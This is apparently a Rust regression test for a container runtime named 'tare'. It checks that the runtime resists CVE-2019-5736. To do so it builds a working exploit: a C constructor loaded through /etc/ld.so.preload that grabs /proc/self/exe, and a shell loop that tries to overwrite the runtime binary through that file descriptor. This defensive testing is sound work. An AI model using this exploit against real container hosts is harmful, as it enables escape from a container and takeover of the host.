//! A container tries to write to the program of the runtime that entered it (CVE-2019-5736). Needs root, a C compiler and
//! a static busybox at `/bin/busybox` (Debian: gcc, busybox-static).

mod common;

use std::fs;
use std::os::unix::fs::symlink;
use std::path::Path;
use std::process::Command;

use common::Host;

/// What the image has its dynamic linker load into every program: it keeps the program's file open and executes something
/// else, so that nobody runs the file any more.
const PRELOADED: &str = r#"
#include <fcntl.h>
#include <unistd.h>
__attribute__((constructor)) static void attack(void) {
    dup2(open("/proc/self/exe", O_RDONLY), 9);
    execl("/bin/sh", "sh", "/attack", (char *)0);
}
"#;

/// Tries for as long as somebody runs the file (half a minute at most), and leaves what the last attempt complained about.
const ATTACK: &str = "
n=0
while ! (echo overwritten >>/proc/self/fd/9) 2>/complaint && grep -q busy /complaint && [ $n -lt 1500 ]; do
    n=$((n + 1))
    usleep 20000
done
mv /complaint /result
";

/// A host with a `tare` of its own, which nobody else runs, and an image whose `/self` is whatever executes it.
fn host() -> Host {
    let host = Host::new();
    let root = host.bundle().join("rootfs");
    let program = host.directory.path().join("tare");
    fs::copy(env!("CARGO_BIN_EXE_tare"), &program).unwrap();
    let libraries = Command::new("ldd").arg(&program).output().unwrap().stdout;
    let libraries = String::from_utf8(libraries).unwrap();
    for library in libraries.split_whitespace().filter(|word| word.starts_with('/')) {
        let copy = root.join(library.trim_start_matches('/'));
        fs::create_dir_all(copy.parent().unwrap()).unwrap();
        fs::copy(library, copy).unwrap();
    }
    let source = host.directory.path().join("preloaded.c");
    fs::write(&source, PRELOADED).unwrap();
    let mut compiler = Command::new("cc");
    compiler.args(["-shared", "-fPIC", "-o"]).arg(root.join("preloaded.so")).arg(source);
    assert!(compiler.status().unwrap().success());
    fs::write(root.join("etc/ld.so.preload"), "/preloaded.so\n").unwrap();
    fs::write(root.join("attack"), ATTACK).unwrap();
    for applet in ["usleep", "mv"] {
        symlink("busybox", root.join("bin").join(applet)).unwrap();
    }
    symlink("/proc/self/exe", root.join("self")).unwrap();
    fs::write(root.join("script"), "#!/proc/self/exe\n").unwrap();
    assert!(Command::new("chmod").arg("+x").arg(root.join("script")).status().unwrap().success());
    host
}

/// What the attack has come to.
fn result(host: &Host) -> String {
    let path: &Path = &host.bundle().join("rootfs/result");
    while !path.exists() {
        std::thread::yield_now();
    }
    let result = fs::read_to_string(path).unwrap();
    fs::remove_file(path).unwrap();
    result
}

#[test]
fn the_program_is_not_written_to_from_its_container() {
    let host = host();
    let before = fs::metadata(host.program()).unwrap().len();
    for (name, command) in [("init", "/self"), ("script", "/script")] {
        let id = &host.id(name);
        host.config("", |config| {
            config["process"]["args"] = serde_json::json!([command]);
            config["root"]["readonly"] = serde_json::json!(false);
        });
        host.create(id, &[]);
        host.ok(&["start", id]);
        assert!(result(&host).contains("Read-only file system"), "{command}");
        host.wait(id);
        host.ok(&["delete", id]);
    }
    let id = &host.id("exec");
    host.config("sleep 1000", |config| config["root"]["readonly"] = serde_json::json!(false));
    host.create(id, &[]);
    host.ok(&["start", id]);
    host.ok(&["exec", "--detach", id, "/self"]);
    assert!(result(&host).contains("Read-only file system"));
    assert_eq!(fs::metadata(host.program()).unwrap().len(), before);
}
